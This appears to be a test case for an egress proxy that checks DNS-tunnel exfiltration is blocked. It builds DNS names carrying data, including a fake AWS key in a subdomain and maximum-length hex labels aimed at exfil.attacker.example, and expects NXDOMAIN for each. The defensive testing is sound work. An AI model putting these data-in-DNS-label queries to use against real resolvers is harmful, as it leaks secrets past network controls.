# what: DNS exfiltration in names: data in a subdomain, a 63-byte label, a 253-byte name, the apex, a case/dot alias
# include: dns
# egress: allowed.test
# expect-denied: aws-key-akiaexample0123.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: 00254a6f94b9de03284d7297bce1062b50759abfe4092e53789dc2e70c31567.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: 00254a6f94b9de03284d7297bce1062b50759abfe4092e53789dc2e70c31567.ba0c5ea0f34597ea3c8ed12375c81a6cbf0153a5f84a9cef3183d6287acd1f6.1b40658aafd4f91e43688db2d7fc21466b90b5daff24496e93b8dd02274c719.00254a6f94b9de03284d7297bce1062b50759a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: exfil.attacker.example 53 dns not_allowlisted
# expect-stdout: DONE 5 blocked
import os, random, socket, struct


# Each query carries data in its labels, the way DNS tunnels do. proxyd
# answers NXDOMAIN without asking upstream: dnsmasq (the "internet") must
# never see a single one of these names, or the data has left.
SUFFIX = "exfil.attacker.example"
DATA = "".join("%02x" % (i * 37 % 256) for i in range(200))
L63 = [DATA[i * 63:(i + 1) * 63] for i in range(3)]
NAMES = [
    # a plain "secret in a subdomain"
    "aws-key-akiaexample0123.exfil.attacker.example",
    # one label of the full 63 bytes
    L63[0] + "." + SUFFIX,
    # a name of exactly 253 bytes, the longest there is
    ".".join(L63) + "." + DATA[:253 - 3 * 64 - len(SUFFIX) - 1] + "." + SUFFIX,
    # the apex itself
    SUFFIX,
]
# Mixed case and a trailing dot are the same name: the same denial, so
# no event names the alias (proxyd's dedupe drops the repeat, or its
# folding counts it on the first one's event).
ALIASES = [NAMES[0].upper() + "."]

blocked = 0
for name in NAMES[:1] + ALIASES + NAMES[1:]:
    try:
        rcode, an = dns_query(name)
    except OSError as e:
        print("LEAK? no answer for", name[:40], e)
        continue
    if rcode == 3 and an == 0:
        blocked += 1
        print("BLOCKED", len(name.rstrip(".")), "bytes: NXDOMAIN")
    else:
        print("LEAK", name[:40], "rcode", rcode, "answers", an)
print("DONE", blocked, "blocked")
